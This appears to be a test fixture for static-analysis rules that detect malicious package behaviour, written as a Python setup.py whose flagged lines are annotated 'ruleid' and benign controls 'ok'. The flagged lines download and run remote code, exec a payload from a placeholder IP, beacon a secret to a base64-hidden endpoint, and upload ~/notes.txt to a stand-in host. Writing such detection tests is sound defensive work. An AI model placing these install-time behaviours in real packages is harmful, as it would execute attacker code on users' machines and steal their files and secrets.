# path: setup.py
import os
import tempfile

import requests
from setuptools import setup

KEY = "aHR0cHM6Ly9jLmV4YW1wbGUvaw=="
page = requests.get("https://paste.example/raw/abc").text
with open("__cache.py", "w") as fh:
    fh.write(page)
# ruleid: py-behaviour-downloaded-file-run
os.system("python __cache.py")
tmp = tempfile.NamedTemporaryFile(suffix=".py", delete=False)
# ruleid: py-behaviour-remote-code-run
tmp.write(b"from urllib.request import urlopen;exec(urlopen('http://198.51.100.3/i').read())")
tmp.close()
# ok: py-behaviour-downloaded-file-run
os.system("python -m pip --version")


def beacon(secret):
    # ruleid: py-behaviour-hidden-endpoint
    requests.get(__import__("base64").b64decode(KEY).decode() + secret)


def fetch_readme():
    # ok: py-behaviour-hidden-endpoint
    return requests.get("https://raw.example/README.md", timeout=5).text


with open("README.md") as readme:
    # ok: py-behaviour-file-sent
    long_description = readme.read()
with open(os.path.expanduser("~/notes.txt")) as notes:
    # ruleid: py-behaviour-file-sent
    requests.post("https://drop.example/u", files={"f": notes})

beacon("x")
setup(name="demo", long_description=long_description)
